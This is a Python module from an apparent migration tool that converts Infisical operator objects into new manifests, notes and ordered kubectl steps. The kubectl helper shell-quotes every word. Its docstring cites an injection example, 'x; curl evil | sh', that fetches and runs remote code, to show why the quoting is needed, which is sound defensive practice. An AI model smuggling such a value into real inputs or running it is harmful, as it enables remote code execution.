"""What a conversion produces: objects to print, notes on what was not converted, steps to take.

The builders write into a :class:`Ledger` while they work; the command prints the :class:`Result`.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field
from typing import Any

# The order the steps are printed in, which is the order to take them: the opt-ins first (the
# identities need them), then Infisical's operator lets go of its objects, then ours take them
# over, then workloads switch to our reload annotation.
OPT_IN, RELEASE, HAND_OVER, RELOAD = range(4)


def kubectl(verb: str, resource: str, namespace: str | None, name: str, *rest: str) -> str:
    """A kubectl command line for a person to paste into a shell, every word quoted.

    The names come from the input, and that input is often ``kubectl get ... -A -o yaml`` over
    objects tenants wrote: a reference field in an Infisical CR is any string, so a name such as
    ``x; curl evil | sh`` must reach the shell as one quoted word, never as a command of its own.
    """
    words = ["kubectl", verb, resource, *(["-n", namespace] if namespace else []), name, *rest]
    return shlex.join(words)


class InputError(Exception):
    """The input is not YAML, or a document in it is not an object: exit status 2."""


@dataclass(frozen=True)
class Note:
    """Something in the input without an equivalent here, or that could not be converted."""

    object: str
    """The input object, ``Kind/namespace/name`` (``Kind/name`` without a namespace)."""
    field: str
    """Path of the field in that object, e.g. ``spec.authentication.awsIamAuth``."""
    why: str
    """Names fields, objects and keys; never a value from the input."""

    def __str__(self) -> str:
        return f"not converted: {self.object}/{self.field}: {self.why}"


@dataclass
class Manifest:
    """One object to print, valid for our models."""

    body: dict[str, Any]
    comments: list[str] = field(default_factory=list)
    origins: list[str] = field(default_factory=list)
    """The input objects it comes from (``Kind/namespace/name``)."""


@dataclass
class Result:
    manifests: list[Manifest] = field(default_factory=list)
    """Identities first, then the SecretSyncs using them: the order to apply them in."""
    notes: list[Note] = field(default_factory=list)
    steps: list[str] = field(default_factory=list)
    """Commands to run by hand (opt-ins, handing existing targets over), in order."""
    skipped: list[str] = field(default_factory=list)
    """Objects that are not the Infisical operator's (Secrets among them), passed over unread."""

    @property
    def complete(self) -> bool:
        """Whether everything in the input was converted."""
        return not self.notes


class Ledger:
    """The result under construction, with the object names already given out."""

    def __init__(self) -> None:
        self.result = Result()
        self._steps: list[tuple[int, str]] = []
        self._names: set[tuple[str, str | None, str]] = set()

    def note(self, obj: str, where: str, why: str) -> None:
        self.result.notes.append(Note(obj, where, why))

    def step(self, order: int, text: str) -> None:
        if (order, text) not in self._steps:
            self._steps.append((order, text))

    def unique(self, kind: str, namespace: str | None, name: str) -> str:
        """``name``, or ``name-2``, ``name-3``... when another object of the kind already has it."""
        candidate, number = name, 1
        while (kind, namespace, candidate) in self._names:
            number += 1
            candidate = f"{name}-{number}"
        self._names.add((kind, namespace, candidate))
        return candidate

    def done(self) -> Result:
        self.result.steps = [text for _, text in sorted(self._steps, key=lambda step: step[0])]
        return self.result
